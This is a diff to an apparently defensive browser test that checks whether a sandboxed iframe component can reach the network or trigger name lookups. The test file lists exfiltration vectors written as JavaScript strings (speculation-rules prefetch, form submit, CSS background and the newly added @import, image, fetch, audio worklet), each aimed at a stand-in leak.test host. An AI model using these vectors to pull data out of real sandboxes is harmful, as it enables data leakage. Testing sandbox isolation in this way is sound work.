@@ -75,6 +75,7 @@ const ONLY_TRIED = {
   speculation: `const it = document.createElement('script'); it.setAttribute('type', 'speculationrules'); it.append(JSON.stringify({ prefetch: [{ source: 'list', urls: [at] }] })); document.body.append(it)`,
   formname: element('form', "{ action: 'http://v-formname.leak.test/' }", 'it.submit()'),
   stylename: element('div', "{ style: 'background: url(http://v-stylename.leak.test/)' }"),
+  importname: `const it = document.createElement('style'); it.append('@import "http://v-importname.leak.test/"'); document.body.append(it)`,
   imagename: element('img', "{ src: 'http://v-imagename.leak.test/' }"),
   fetchname: `return fetch('http://v-fetchname.leak.test/')`,
   audioworklet: 'return new AudioContext().audioWorklet.addModule(at)',
@@ -170,14 +171,20 @@ test('from a component nothing arrives, and no name is looked up', { timeout: 12
   await message(page).fill('try to get out');
   await message(page).press('Enter');
   const frame = page.frameLocator('iframe.component');
-  await Promise.race([frame.getByRole('button', { name: 'All tried' }).waitFor(), page.locator('.interaction .problem').waitFor().then(async () => assert.fail(await page.locator('.interaction').innerText()))]);
-  await frame.getByRole('button', { name: 'Send' }).click();
-  // A person presses whatever is there.
-  for (const text of await frame.getByText('@import').all()) await text.click({ force: true, timeout: 1000 }).catch(() => undefined);
-  await sleep(3000);
-  await frame.getByRole('button', { name: 'All tried' }).click();
-  await page.locator('.words').getByText('Tried.', { exact: true }).first().waitFor();
-  assert.equal(await page.evaluate(() => location.origin), new URL(hob).origin);
+  const trying = async () => {
+    const failed = page.locator('.interaction .problem').waitFor().then(async () => assert.fail(await page.locator('.interaction').innerText()));
+    await Promise.race([frame.getByRole('button', { name: 'All tried' }).waitFor(), failed]);
+    await frame.getByRole('button', { name: 'Send' }).click();
+    // A person presses whatever is there.
+    for (const text of await frame.getByText('@import').all()) await text.click({ force: true, timeout: 1000 }).catch(() => undefined);
+    await sleep(3000);
+    await frame.getByRole('button', { name: 'All tried' }).click();
+    await page.locator('.words').getByText('Tried.', { exact: true }).first().waitFor();
+    assert.equal(await page.evaluate(() => location.origin), new URL(hob).origin);
+  };
+  // What arrived is told first: a component that got away is not there to be asked.
+  const trouble = await trying().then(() => undefined, (error) => error);
   await context.close();
   assert.deepEqual({ heard: [...heard], names: [...(await names())] }, { heard: [], names: [] });
+  assert.ifError(trouble);
 });
